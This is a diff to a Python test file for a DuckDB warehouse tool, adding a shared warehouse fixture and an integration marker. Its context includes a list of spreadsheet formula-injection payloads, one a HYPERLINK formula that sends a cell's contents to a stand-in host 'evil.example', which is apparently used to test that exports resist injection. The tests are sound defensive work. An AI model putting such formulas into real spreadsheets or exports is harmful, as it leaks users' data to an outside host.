@@ -15,6 +15,8 @@ from corridor.cli import main
 from corridor.engine.snapshot import write_snapshot
 from corridor.warehouse import Warehouse
 
+from fixtures.warehouse import fresh_warehouse
+
 SECRET = "do-not-read-this-secret"
 HOSTILE = [
     "=HYPERLINK(\"http://evil.example/?\"&A1,\"click\")", "+1+2", "-2+3", "@SUM(A1:A9)", "\t=1", "\r=1",
@@ -38,8 +40,7 @@ def folder(tmp_path, monkeypatch):
     monkeypatch.delenv("CORRIDOR_SNAPSHOT", raising=False)
     (tmp_path / ".env").write_text(f"SOME_TOKEN={SECRET}\n")
     (tmp_path / "data.csv").write_text(f"a,b\n1,{SECRET}\n")
-    with Warehouse(tmp_path / "w.duckdb") as wh:
-        wh.bootstrap()
+    with fresh_warehouse(tmp_path) as wh:  # a copy of one bootstrapped file
         con = wh.cursor()
         con.execute("INSERT INTO meta.load (load_id, operator_code, feed, status, started_utc, error)"
                     " VALUES ('L-warehouse', 'KTZ', 'cargo', 'SUCCEEDED', TIMESTAMP '2024-03-01 02:00', ?)", [HOSTILE[0]])
@@ -156,6 +157,7 @@ def _holds_open(pid, path):
         return False
 
 
+@pytest.mark.integration  # a writer in another process
 def test_a_query_on_the_snapshot_does_not_block_a_writer(snapshot):
     # A query that runs for a few seconds, in its own process, as an analyst's would.
     slow = "SELECT count(*) AS n, sum(hash(range)) > 0 AS busy FROM range(300000000)"
